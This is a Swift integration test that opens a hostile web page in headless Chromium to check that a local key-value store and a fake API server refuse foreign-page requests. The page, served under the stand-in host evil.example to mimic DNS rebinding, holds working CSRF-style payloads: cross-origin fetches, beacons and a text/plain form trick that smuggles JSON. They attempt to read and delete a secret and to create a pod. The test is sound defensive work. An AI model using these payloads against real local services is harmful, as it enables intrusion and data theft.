import Foundation
import Subprocess
import TestSupport
import Testing

/// A real browser on a foreign page, with everything that a page can try on a server of the reader's machine.
@Suite(
  .takesTurns, .timeLimit(.minutes(10)),
  .enabled(if: Browser.program != nil, "there is no chromium: make integration installs it"))
struct ForeignPageTests {
  /// - Parameter cors: with `*` the page has to read, write and delete, or the test proves nothing.
  @Test(arguments: [([], false), (["--cors=*"], true)])
  func aForeignPageWritesNoKeyAndMakesNoPod(cors: [String], writes: Bool) async throws {
    try await TemporaryFiles.with { files in
      let store = ["--data-dir", files.path("data"), "--listen-client-urls", "http://127.0.0.1:0"]
      try await Programs.run("kvstore", store + cors) { store in
        try await Programs.run(
          "fake-apiserver", ["--etcd-servers=\(store)", "--insecure-port=-1"]
        ) { server in
          let keys = Caller(url: store)
          let secret = "what-no-page-may-read"
          #expect(try await keys.form("PUT", "/v2/keys/secret", "value=\(secret)") == 201)
          let told = try await Browser.run(
            Self.page(store: store, server: server), profile: files.path("profile"))
          #expect(told.contains("tried everything"), "\(told)")
          #expect(told.contains(secret) == writes, "\(told)")
          let written = "\(try await keys.call("GET", "/v2/keys/?recursive=true").body)"
          #expect(written.contains("/by-page") == writes, "\(written)")
          #expect(written.contains(secret) != writes, "\(written)")
          #expect(try await Caller(url: server).call("GET", Caller.pods).body["items"] == [])
        }
      }
    }
  }

  /// Writes by each means that a browser has, by address and by a name of the page's own site.
  private static func page(store: String, server: String) -> String {
    """
    <!DOCTYPE html><meta charset="utf-8"><body><script>
    const pod = JSON.stringify({apiVersion: "v1", kind: "Pod", metadata: {name: "by-page"},
      spec: {containers: [{name: "c", image: "i"}]}});
    const rebound = url => url.replace("127.0.0.1", "\(Browser.foreignHost)");
    const attempts = [];
    let told = [];
    for (const store of ["\(store)", rebound("\(store)")]) {
      for (const mode of ["cors", "no-cors"]) {
        attempts.push(() => fetch(store + "/v2/keys/by-page-" + mode, {method: "POST", mode,
          headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: "value=1"}));
        attempts.push(() => fetch(store + "/v2/keys/secret", {mode}).then(a => a.text()).then(t => told.push(t)));
      }
      attempts.push(() => fetch(store + "/v2/keys/by-page-put", {method: "PUT", body: "value=1"}));
      attempts.push(() => fetch(store + "/v2/keys/secret", {method: "DELETE"}).then(a => told.push(a.status)));
      attempts.push(async () => navigator.sendBeacon(store + "/v2/keys/by-page-beacon",
        new Blob(["value=1"], {type: "application/x-www-form-urlencoded"})));
      attempts.push(() => submit(store + "/v2/keys/by-page-form", "application/x-www-form-urlencoded", "value", "1"));
    }
    for (const server of ["\(server)", rebound("\(server)")]) {
      const pods = server + "/api/v1/namespaces/default/pods";
      for (const type of ["text/plain", "application/json"])
        for (const mode of ["cors", "no-cors"])
          attempts.push(() => fetch(pods, {method: "POST", mode, headers: {"Content-Type": type}, body: pod}));
      attempts.push(async () => navigator.sendBeacon(pods, pod));
      // A form of plain text whose name and value are one JSON object.
      attempts.push(() => submit(pods, "text/plain", pod.slice(0, -1) + ',"x":"', '"}'));
    }
    function submit(action, enctype, name, value) {
      const frame = document.createElement("iframe");
      frame.name = "f" + Math.random();
      const form = document.createElement("form");
      Object.assign(form, {action, enctype, method: "post", target: frame.name});
      const input = document.createElement("input");
      Object.assign(input, {name, value});
      form.append(input);
      document.body.append(frame, form);
      return new Promise(resolve => { frame.onload = resolve; form.submit(); });
    }
    (async () => {
      for (const attempt of attempts) {
        const limit = new Promise(resolve => setTimeout(resolve, 3000));
        await Promise.race([attempt().catch(() => {}), limit]);
      }
      await fetch("/told", {method: "POST", body: "tried everything: " + told.join("\\n")});
    })();
    </script>
    """
  }
}

/// Debian's chromium without a window.
private enum Browser {
  /// A name that the browser, and nobody else, takes for this machine: as after a DNS rebinding.
  static let foreignHost = "evil.example"

  static let program = (ProcessInfo.processInfo.environment["PATH"] ?? "").split(separator: ":")
    .map { "\($0)/chromium" }.first { FileManager.default.isExecutableFile(atPath: $0) }

  /// Opens a page of ``foreignHost``, and waits until it tells what it has found.
  static func run(_ page: String, profile: String) async throws -> String {
    let program = try #require(self.program)
    let reply = ScriptedServer.Reply.answer(200, ["Content-Type": "text/html"], page)
    return try await ScriptedServer.with({ _ in reply }) { server in
      try await Subprocess.run(
        .path(.init(program)),
        arguments: [
          "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
          "--no-first-run",
          "--user-data-dir=\(profile)", "--host-resolver-rules=MAP \(self.foreignHost) 127.0.0.1",
          "http://\(self.foreignHost):\(server.port)/",
        ], input: .none, output: .discarded, error: .discarded
      ) { execution in
        defer { try? execution.send(signal: .kill) }
        var told: String?
        try await eventually("the page has tried everything") {
          told = server.requests.first { $0.target == "/told" }?.body
          return told != nil
        }
        return told ?? ""
      }.closureResult
    }
  }
}

extension Caller {
  fileprivate func form(_ method: String, _ path: String, _ body: String) async throws -> Int {
    try await self.call(method, path, body, type: "application/x-www-form-urlencoded").code
  }
}
